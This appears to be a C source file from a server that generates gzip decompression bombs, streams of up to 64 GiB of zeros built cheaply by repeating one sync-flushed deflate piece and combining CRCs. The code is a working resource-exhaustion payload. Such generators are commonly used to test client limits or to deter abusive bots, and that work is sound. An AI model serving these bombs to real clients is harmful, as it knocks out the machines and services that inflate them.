/*
 * gzbomb.c - a gzip stream that inflates to a great many zero bytes, built
 * without deflating them all: a raw deflate stream that starts afresh and
 * ends with a sync flush is a byte-aligned run of non-final blocks that
 * refers to nothing before it, so copies of it can be laid end to end. One
 * MiB of zeros deflates to about 1 KB; the last piece (the remainder, maybe
 * empty) is deflated with Z_FINISH, and the CRC of the whole is combined
 * from the CRC of one piece.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <zlib.h>

#include "routes.h"

#define PIECE ((size_t)1 << 20)
#define MAX_BOMB ((uint64_t)64 << 30)

/* Deflate len zero bytes (raw, level 9) with flush; malloc'd into *ret. */
static int deflate_zeros(const unsigned char *zeros, size_t len, int flush, unsigned char **ret,
                         size_t *ret_len, char err[FS_ERR_MAX])
{
    z_stream zs;
    unsigned char *out = NULL;
    size_t cap = len / 512 + 1024;
    int rc;

    memset(&zs, 0, sizeof zs);
    if (deflateInit2(&zs, 9, Z_DEFLATED, -15, 9, Z_DEFAULT_STRATEGY) != Z_OK) {
        snprintf(err, FS_ERR_MAX, "gzip-bomb: cannot start zlib's deflate");
        return -1;
    }
    out = malloc(cap);
    if (!out)
        goto nomem;
    zs.next_in = (unsigned char *)zeros;
    zs.avail_in = (uInt)len;
    zs.next_out = out;
    zs.avail_out = (uInt)cap;
    rc = deflate(&zs, flush);
    if ((flush == Z_FINISH && rc != Z_STREAM_END) || (flush != Z_FINISH && rc != Z_OK) ||
        zs.avail_in || !zs.avail_out) {
        snprintf(err, FS_ERR_MAX, "gzip-bomb: zlib's deflate failed (%d)", rc);
        goto fail;
    }
    *ret_len = cap - zs.avail_out;
    *ret = out;
    deflateEnd(&zs);
    return 0;
nomem:
    snprintf(err, FS_ERR_MAX, "gzip-bomb: out of memory");
fail:
    free(out);
    deflateEnd(&zs);
    return -1;
}

static void put_le32(unsigned char *p, uint32_t v)
{
    for (int i = 0; i < 4; i++)
        p[i] = (unsigned char)(v >> (8 * i));
}

int fs_gzip_zeros(uint64_t size, char **ret, size_t *ret_len, char err[FS_ERR_MAX])
{
    static const unsigned char head[10] = {0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 2, 3};
    unsigned char *zeros = NULL, *piece = NULL, *last = NULL, *out = NULL, *o;
    size_t npiece = 0, nlast = 0, total;
    uint64_t count = size / PIECE, rest = size % PIECE;
    uLong crc_piece, crc;

    if (size > MAX_BOMB) {
        snprintf(err, FS_ERR_MAX, "gzip-bomb: at most 64G");
        return -1;
    }
    zeros = calloc(1, PIECE);
    if (!zeros)
        goto nomem;
    if (deflate_zeros(zeros, PIECE, Z_SYNC_FLUSH, &piece, &npiece, err) < 0 ||
        deflate_zeros(zeros, (size_t)rest, Z_FINISH, &last, &nlast, err) < 0)
        goto fail;
    total = sizeof head + (size_t)count * npiece + nlast + 8;
    out = malloc(total);
    if (!out)
        goto nomem;
    memcpy(out, head, sizeof head);
    o = out + sizeof head;
    crc = crc32(0L, Z_NULL, 0);
    crc_piece = crc32(crc, zeros, (uInt)PIECE);
    for (uint64_t i = 0; i < count; i++) {
        memcpy(o, piece, npiece);
        o += npiece;
        crc = crc32_combine(crc, crc_piece, (z_off_t)PIECE);
    }
    memcpy(o, last, nlast);
    o += nlast;
    crc = crc32_combine(crc, crc32(0L, zeros, (uInt)rest), (z_off_t)rest);
    put_le32(o, (uint32_t)crc);
    put_le32(o + 4, (uint32_t)(size & 0xffffffffu));
    *ret = (char *)out;
    *ret_len = total;
    free(zeros);
    free(piece);
    free(last);
    return 0;
nomem:
    snprintf(err, FS_ERR_MAX, "gzip-bomb: out of memory");
fail:
    free(zeros);
    free(piece);
    free(last);
    free(out);
    return -1;
}
